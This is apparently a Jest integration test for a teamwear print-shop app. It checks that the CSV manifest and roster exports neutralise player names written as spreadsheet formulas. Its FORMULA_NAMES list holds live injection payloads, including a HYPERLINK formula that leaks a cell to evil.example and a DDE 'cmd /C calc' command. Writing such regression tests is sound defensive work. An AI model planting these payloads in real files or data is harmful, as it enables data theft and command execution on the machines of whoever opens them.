// Issue 32, point 5: a player named like a formula must not run in the print shop's spreadsheet.
// The production ZIP's manifest.csv and the roster export are written by the one CSV writer
// (api/src/csv/spreadsheet-csv.ts); this reads them as Excel would, with a comma and a semicolon.
import { unzipSync } from 'fflate';
import Papa from 'papaparse';
import { fromCsvCell, OrderResponse, TokenResponse } from '@teamwear/shared/contracts';
import { createTestApp, DEMO, providerToken, registerUser, signIn, TENANT_ONE_HOST, type TestContext } from './helpers';

jest.setTimeout(240_000);

let ctx: TestContext;
beforeAll(async () => {
  ctx = await createTestApp({ rateLimit: false });
});
afterAll(async () => {
  await ctx.close();
});

const FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "x;=cmd|' /C calc'!A0", '@SUM(1+1)*cmd|x', '+1+cmd|x', '-1+cmd|x'];

/** A back with each player's name and number: a print file (a manifest row) per player. */
const layer = (kind: string, y: number, fontSize: number, value: string) => ({
  id: `${kind}-back`,
  kind,
  view: 'back',
  x: 500,
  y,
  text: value,
  fontFamily: 'Arial',
  fontSize,
  fontWeight: 700,
  fill: { kind: 'solid', color: '#ffffff' },
  stroke: { width: 0, color: '#000000' },
});
const DESIGN = { schemaVersion: 2, product: 'soccer', teamName: 'Formula FC', layers: [layer('playerName', 150, 44, 'PLAYER'), layer('backNumber', 300, 170, '10')] };

/** Every cell of a CSV, read with this separator, that a spreadsheet would run. */
function formulaCells(csv: string, delimiter: string): string[] {
  return Papa.parse<string[]>(csv.replace(/^\uFEFF/, '').trimEnd(), { delimiter }).data.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
}

describe('CSV files a spreadsheet opens', () => {
  it("the production ZIP's manifest.csv quotes and neutralises players named like formulas", async () => {
    const user = await registerUser(ctx.app, TENANT_ONE_HOST);
    const token = TokenResponse.parse((await signIn(ctx.app, TENANT_ONE_HOST, user)).json()).access_token;
    const customer = { host: TENANT_ONE_HOST, authorization: `Bearer ${token}` };
    const design = await ctx.app.inject({ method: 'POST', url: '/api/designs', headers: customer, payload: { document: DESIGN } });
    expect(design.statusCode).toBe(201);
    const rows = FORMULA_NAMES.map((name, index) => ({ name, number: index + 1, size: 'M' }));
    expect((await ctx.app.inject({ method: 'POST', url: '/api/players/import', headers: customer, payload: { rows } })).statusCode).toBe(201);
    const roster = (await ctx.app.inject({ method: 'GET', url: '/api/players?sort=number', headers: customer })).json().data as { id: string }[];
    const placed = await ctx.app.inject({
      method: 'POST',
      url: '/api/orders',
      headers: { ...customer, 'idempotency-key': 'spreadsheet-cells-1' },
      payload: { designId: design.json().data.id, players: roster.map((player) => ({ playerId: player.id, size: 'M' })), address: 'Street 1', phone: '012 345 678' },
    });
    expect(placed.statusCode).toBe(201);
    const order = OrderResponse.parse(placed.json()).data;

    const shop = { host: TENANT_ONE_HOST, authorization: `Bearer ${await providerToken(ctx.app, TENANT_ONE_HOST, DEMO.one.admin)}` };
    expect((await ctx.app.inject({ method: 'POST', url: `/api/provider/orders/${order.id}/transition`, headers: shop, payload: { to: 'APPROVED' } })).statusCode).toBe(200);
    expect((await ctx.app.inject({ method: 'POST', url: `/api/orders/${order.id}/proof/approve`, headers: customer, payload: {} })).statusCode).toBeLessThan(300);
    await ctx.app.inject({ method: 'POST', url: `/api/provider/orders/${order.id}/transition`, headers: shop, payload: { to: 'PROCESSING' } });
    let zip = await ctx.app.inject({ method: 'GET', url: `/api/provider/orders/${order.id}/production.zip`, headers: shop });
    for (let tries = 0; zip.statusCode === 409 && tries < 5; tries += 1) {
      await ctx.app.production.drain();
      zip = await ctx.app.inject({ method: 'GET', url: `/api/provider/orders/${order.id}/production.zip`, headers: shop });
    }
    expect(zip.statusCode).toBe(200);
    const manifest = Buffer.from(unzipSync(new Uint8Array(zip.rawPayload))['manifest.csv'] as Uint8Array).toString('utf8');

    expect(formulaCells(manifest, ',')).toEqual([]);
    expect(formulaCells(manifest, ';')).toEqual([]);
    expect(manifest).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
    expect(manifest).toContain(`,"x;'=cmd|' /C calc'!A0",2,back,M,`);
    // What the print shop reads is still each player's name, as typed.
    const players = Papa.parse<Record<string, string>>(manifest.trimEnd(), { header: true }).data.map((row) => fromCsvCell(row.player ?? ''));
    expect(players).toEqual(expect.arrayContaining(FORMULA_NAMES));
  });

  it('the roster export does the same, and its numbers stay numbers', async () => {
    const user = await registerUser(ctx.app, TENANT_ONE_HOST);
    const token = TokenResponse.parse((await signIn(ctx.app, TENANT_ONE_HOST, user)).json()).access_token;
    const customer = { host: TENANT_ONE_HOST, authorization: `Bearer ${token}` };
    const rows = FORMULA_NAMES.map((name, index) => ({ name, number: index + 1, size: 'M', team: name.slice(0, 40) }));
    expect((await ctx.app.inject({ method: 'POST', url: '/api/players/import', headers: customer, payload: { rows } })).statusCode).toBe(201);
    const csv = (await ctx.app.inject({ method: 'GET', url: '/api/players/export', headers: customer })).body;
    expect(formulaCells(csv, ',')).toEqual([]);
    expect(formulaCells(csv, ';')).toEqual([]);
    expect(csv).toContain(`"x;'=cmd|' /C calc'!A0",2,M,"x;'=cmd|' /C calc'!A0"\r\n`);
    // The roster import reads every name and team back as typed.
    const read = Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, '').trimEnd(), { header: true }).data;
    expect(read.map((row) => [fromCsvCell(row.name ?? ''), fromCsvCell(row.team ?? '')])).toEqual(expect.arrayContaining(rows.map((row) => [row.name, row.team])));
  });
});
